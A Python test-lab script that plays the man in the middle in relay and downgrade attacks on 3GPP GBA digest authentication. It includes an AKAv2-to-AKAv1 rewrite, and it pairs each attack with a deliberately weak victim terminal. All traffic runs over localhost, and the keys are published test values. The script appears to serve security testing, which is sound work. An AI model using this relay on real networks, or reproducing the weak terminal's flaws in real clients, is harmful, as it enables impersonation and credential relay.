#!/usr/bin/python3
"""The man in the middle of the interleaving attack, and victims without one protection each [UT-7].

  attacker.py serve LAB-JSON CERTIFICATE KEY VARIANT TLS-VERSION
      Prints the port that a victim has to come to, as {"port": N}, serves one victim, and prints what became of it:
      {"http": a request came, "answered": the victim answered the challenge, "status": of the answer in the attacker's
      own tunnel to the operator, or null}
  attacker.py weak LAB-JSON CA NAME PORT VARIANT TLS-VERSION TARGET
      A terminal that lacks what the variant attacks comes to NAME at PORT.

Variants: realm  the challenge of the NAF is shown to a victim in TLS with the attacker's server
          plain  the same to a victim that speaks HTTP without TLS to the NAF's name
          ub     the challenge of the BSF is shown as one of Ut
          aka    the challenge of a NAF with AKA on Ut is shown to a victim in TLS with the attacker's server
          v1     the same, of AKAv1, shown as one of the BSF
          v2     the same of AKAv2, with the name of AKAv1 while the victim sees it
"""

import base64
import json
import os
import socket
import ssl
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '../../interop/ut-lab'))
from peer import Card, Connection, Lab, Terminal, aka_password, digest, ks_naf, parameters, suite_of  # noqa: E402

# Published test set 1 of Milenage (TS 35.208): the card of the stage.
K = bytes.fromhex('465b5ce8b199b49faa5f0a2ee238a6bc')
OPC = bytes.fromhex('cd63cb71954a9f4e48a5994e37a02baf')


class RunningLab(Lab):
    """An operator that somebody else started, and ends."""

    def __init__(self, path):
        with open(path, encoding='utf-8') as file:
            self.where = json.load(file)


def pinned(context, version):
    """One version on both sides, so that both tunnels have the same suite and with it the same Ua id."""
    chosen = {'1.2': ssl.TLSVersion.TLSv1_2, '1.3': ssl.TLSVersion.TLSv1_3}[version]
    context.minimum_version = context.maximum_version = chosen
    if version == '1.2':
        context.set_ciphers('ECDHE+AESGCM+AES256')
    return context


class Request:
    def __init__(self, connection):
        while b'\r\n\r\n' not in connection.rest:
            connection._more()
            if not connection.rest[:1].isalpha():
                connection.sock.sendall(b'HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n')
                raise ValueError('this is no HTTP')
        head, connection.rest = connection.rest.split(b'\r\n\r\n', 1)
        lines = head.decode().split('\r\n')
        self.method, self.target = lines[0].split()[:2]
        self.headers = dict(line.split(': ', 1) for line in lines[1:])
        self.authorization = self.headers.get('Authorization')


def answer(connection, status, fields):
    lines = [f'HTTP/1.1 {status} X'] + [f'{n}: {v}' for n, v in fields] + ['Content-Length: 0', '', '']
    connection.sock.sendall('\r\n'.join(lines).encode())


def own_tunnel(lab, variant, version):
    """Where the attacker is the client: a NAF, in TLS, or the BSF."""
    if variant == 'ub':
        return lab.connect(lab.where['bsf']['port']), lab.where['bsf']['name']
    naf = lab.where['nafs'][{'aka': 1, 'v2': 1, 'v1': 2}.get(variant, 0)]
    context = pinned(ssl.create_default_context(cafile=lab.where['ca_file']), version)
    raw = socket.create_connection(('127.0.0.1', naf['port']), timeout=10)
    return Connection(context.wrap_socket(raw, server_hostname=naf['name'])), naf['name']


def attack(victim, tunnel, name, variant, impi, result):
    request = Request(victim)
    result['http'] = True
    fields = [('Host', name), ('User-Agent', 'attacker 3gpp-gba')]
    first = list(fields)
    if variant in ('ub', 'aka', 'v1', 'v2'):
        realm = name if variant == 'ub' else impi.split('@')[1]
        first.append(('Authorization', f'Digest username="{impi}", realm="{realm}", nonce="", '
                      f'uri="{request.target}", response=""'))
    challenged = tunnel.exchange(request.method, request.target, first)
    shown = [(n, v) for n, v in challenged.headers if n.lower() == 'www-authenticate']
    if variant == 'v2':
        shown = [(n, v.replace('AKAv2-MD5', 'AKAv1-MD5')) for n, v in shown]
    answer(victim, 401, shown)
    request = Request(victim)
    if not request.authorization:
        return
    result['answered'] = True
    if variant == 'v2':
        request.authorization = request.authorization.replace('AKAv1-MD5', 'AKAv2-MD5')
    taken = tunnel.exchange(request.method, request.target, [*fields, ('Authorization', request.authorization)])
    result['status'] = taken.status
    answer(victim, 403, [])


def serve(lab_json, certificate, key, variant, version):
    lab = RunningLab(lab_json)
    listener = socket.create_server(('127.0.0.1', 0))
    listener.settimeout(30)
    print(json.dumps({'port': listener.getsockname()[1]}), flush=True)
    raw, _ = listener.accept()
    raw.settimeout(10)
    result = {'http': False, 'answered': False, 'status': None}
    try:
        if variant not in ('plain', 'v1', 'v2'):
            context = pinned(ssl.create_default_context(ssl.Purpose.CLIENT_AUTH), version)
            context.load_cert_chain(certificate, key)
            raw = context.wrap_socket(raw, server_side=True)
        tunnel, name = own_tunnel(lab, variant, version)
        attack(Connection(raw), tunnel, name, variant, lab.where['subscribers'][0]['impi'], result)
    except (EOFError, OSError, ValueError) as error:
        result['end'] = type(error).__name__
    print(json.dumps(result), flush=True)


def weak(lab_json, ca, name, port, variant, version, target):
    lab = RunningLab(lab_json)
    terminal = Terminal(lab, lab.where['subscribers'][0]['impi'], Card(K, OPC))
    raw = socket.create_connection(('127.0.0.1', int(port)), timeout=10)
    context = pinned(ssl.create_default_context(cafile=ca), version)
    if variant == 'plain':
        # Its keys do not tell TLS from none: the suite that it would have had.
        wanted = {'1.2': 'ECDHE-ECDSA-AES256-GCM-SHA384', '1.3': 'TLS_AES_256_GCM_SHA384'}[version]
        suite = next(c['id'] & 0xFFFF for c in context.get_ciphers() if c['name'] == wanted)
        connection = Connection(raw)
    else:
        tls = context.wrap_socket(raw, server_hostname=name)
        suite = suite_of(tls, context)
        connection = Connection(tls)
    if variant not in ('ub', 'aka'):
        terminal.bootstrap()
    fields = [('Host', name), ('User-Agent', 'weak 3gpp-gba')]
    challenge = parameters(connection.exchange('GET', target, fields).header('WWW-Authenticate'))
    cnonce = os.urandom(16).hex()
    if variant in ('ub', 'aka'):
        # It has the card answer whoever asks in TLS.
        octets = base64.b64decode(challenge['nonce'])
        outcome, value = terminal.card.authenticate(octets[:16], octets[16:32])
        assert outcome == 'ok', outcome
        username, password, qop = terminal.impi, aka_password(challenge['algorithm'], *value), 'auth-int'
    else:
        # It takes the FQDN of its key from the realm, whoever shows that.
        fqdn = challenge['realm'].split('@')[1]
        username, qop = terminal.b_tid, 'auth'
        password = base64.b64encode(ks_naf(terminal.ks, terminal.rand, terminal.impi, fqdn, suite))
    response, _ = digest(challenge['algorithm'], username, challenge['realm'], password, challenge['nonce'], '00000001',
                         cnonce, qop, 'GET', target, b'')
    field = (f'Digest username="{username}", realm="{challenge["realm"]}", nonce="{challenge["nonce"]}", '
             f'uri="{target}", response="{response}", algorithm={challenge["algorithm"]}, cnonce="{cnonce}", '
             f'opaque="{challenge["opaque"]}", qop={qop}, nc=00000001')
    connection.exchange('GET', target, [*fields, ('Authorization', field)])


{'serve': serve, 'weak': weak}[sys.argv[1]](*sys.argv[2:])
